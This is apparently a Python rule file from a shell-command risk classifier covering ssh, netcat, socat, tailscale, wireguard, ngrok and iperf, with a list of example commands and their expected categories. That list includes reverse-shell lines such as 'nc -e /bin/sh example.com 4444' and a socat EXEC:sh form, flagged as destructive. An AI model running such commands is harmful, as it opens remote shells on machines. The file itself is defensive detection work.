"""Sessions and raw connections: ssh, netcat, socat, telnet, tunnels."""

from __future__ import annotations

from assent.risk.address import host
from assent.risk.category import Category
from assent.risk.finding import Judgement
from assent.risk.rule import NONE, READS, TEXT, WRITES, Effect, Operands, Program, Role, always, proven, raises

TYPE_CHECKING = False
if TYPE_CHECKING:
    from assent.command.model import Argument

NAMED = proven(host)
HANDS_OVER = Effect(Role.Runs, Category.Destroys, "gives another machine the program")
WAITS = raises(Category.ModifiesSystem, "waits for connections")
CONNECTS = "opens a connection, for data in both directions"


def _control(word: Argument) -> Judgement:
    if word.exact and word.text == "check":
        return Judgement(Category.ReadsFilesystem, "only asks for the state of a connection")
    return Judgement(Category.ModifiesSystem, f"`-O {word.text}` changes a connection that is open", word)


PROGRAMS = (
    Program(
        "ssh",
        "-4 -6 -v -q -T -l= -p= -V -G -Q=",
        Operands(NAMED),
        {"-O=": proven(_control)},
        Category.ModifiesRemote,
        "opens a session on another machine",
        abbreviates=False,
        modes=(
            ("-V -Q -O", Program("ssh")),
            ("-G", Program("ssh", operands=Operands(NAMED, most=1))),
        ),
    ),
    Program(
        "nc ncat netcat",
        "-4 -6 -n -v -z -w= -G= -u -t -r -D -d -h -p= -s= -i= -q=",
        Operands(NAMED),
        {
            "-e,--exec=": HANDS_OVER,
            "-c,--sh-exec=": HANDS_OVER,
            "-l,--listen": WAITS,
            "-k,--keep-open": WAITS,
            "-U": raises(Category.Unrecognized, "speaks to a program of this machine"),
            "-x=": raises(Category.Unrecognized, "goes through another machine"),
            "-X=": raises(Category.Unrecognized, "goes through another machine"),
        },
        Category.ModifiesRemote,
        CONNECTS,
        abbreviates=False,
        modes=(("-z", Program("nc", "", Operands(NAMED), {}, Category.ReadsRemote, "only tries ports")),),
    ),
    Program("socat", "-V -h", category=Category.Unrecognized, phrase="joins two channels, which may be programs"),
    Program("telnet mosh rlogin rsh autossh sshpass", "", Operands(NAMED), {}, Category.ModifiesRemote, CONNECTS),
    Program(
        "tailscale",
        subcommands=(
            Program(
                "status ip ping netcheck version whois dns licenses metrics",
                "--json --active --peers --self --web= -4 -6 -1 --timeout= --c= --until-direct --format= --every=",
                Operands(NAMED),
                {},
                Category.ReadsRemote,
                "shows the state of the network",
                words=True,
            ),
            always(
                "up down login logout set switch configure update lock drive",
                Category.ModifiesSystem,
                "changes how this machine is connected",
            ),
            always(
                "serve funnel file ssh nc web",
                Category.ModifiesRemote,
                "lets others reach this machine, or reaches them",
            ),
            always("cert", Category.ReadsSecrets, "writes a private key"),
        ),
        effects={"--socket=": raises(Category.Unrecognized, "speaks to another daemon")},
        words=True,
    ),
    Program(
        "wg",
        subcommands=(
            Program("show", operands=Operands(raises(Category.ReadsSecrets, "may show keys"), first=(TEXT,))),
            Program("showconf genkey genpsk", category=Category.ReadsSecrets, phrase="shows a private key"),
            Program("pubkey", operands=NONE),
            always("set setconf addconf syncconf", Category.ModifiesSystem, "changes a tunnel"),
        ),
    ),
    always("wg-quick", Category.ModifiesSystem, "starts or stops a tunnel, and runs its scripts"),
    Program(
        "ngrok cloudflared",
        "",
        effects={"--config=": READS},
        subcommands=(
            Program("version help", operands=Operands(most=1)),
            always("update", Category.ModifiesSystem, "replaces itself"),
            always("http tcp tls start tunnel access", Category.ModifiesRemote, "lets others reach this machine"),
        ),
    ),
    Program(
        "iperf iperf3",
        "-v -h -J,--json -t,--time= -p,--port= -i,--interval= -P,--parallel= -R,--reverse -u,--udp -4 -6",
        effects={"-c,--client=": NAMED, "-s,--server": WAITS, "--logfile=": WRITES, "-F,--file=": READS},
        category=Category.ModifiesRemote,
        phrase="fills a connection with data",
        modes=(("-v", Program("iperf")),),
    ),
)

EXAMPLES = """
ReadsFilesystem: ssh -V
ReadsFilesystem: ssh -Q cipher
ReadsFilesystem: ssh -O check host
ReadsRemote: ssh -G host
ModifiesSystem: ssh -O exit host
Unrecognized: ssh host
ModifiesRemote: ssh host ls
DeletesData: ssh host rm x
Unrecognized: ssh -G "$(cat a)"
ReadsRemote: nc -zv localhost 3000
ReadsRemote: nc -z -w 2 example.com 20-25
ModifiesRemote: nc example.com 80
ModifiesRemote: echo x | nc example.com 80
ModifiesRemote: nc -l 8080
Destroys: nc -e /bin/sh example.com 4444
Destroys: nc -z -e /bin/sh example.com 4444
Unrecognized: nc -z "$(cat a).example.com" 80
Destroys: socat TCP:example.com:80 EXEC:sh
ModifiesRemote: telnet example.com 25
ReadsRemote: tailscale status
ReadsRemote: tailscale ping --c 1 web
ModifiesSystem: tailscale up
ModifiesRemote: tailscale funnel 3000
ReadsFilesystem: wg show
ReadsFilesystem: wg show wg0
ReadsSecrets: wg show wg0 private-key
ReadsSecrets: wg genkey
ModifiesSystem: wg-quick up wg0
ReadsFilesystem: ngrok version
ModifiesRemote: ngrok http 3000
ModifiesRemote: iperf3 -c example.com
ReadsFilesystem: iperf3 -v
ModifiesSystem: wg set wg0 listen-port 51820
ModifiesSystem: ngrok update
"""
